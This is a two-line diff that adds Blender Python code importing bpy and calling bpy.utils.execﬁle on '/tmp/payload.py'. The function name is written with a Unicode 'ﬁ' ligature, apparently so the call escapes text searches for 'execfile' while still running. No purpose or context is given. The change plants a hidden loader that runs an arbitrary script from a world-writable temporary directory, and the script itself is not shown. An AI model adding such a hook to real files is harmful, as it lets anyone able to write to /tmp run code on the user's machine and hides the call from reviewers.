@@ -1,0 +1,2 @@
+import bpy
+bpy.utils.execﬁle("/tmp/payload.py")
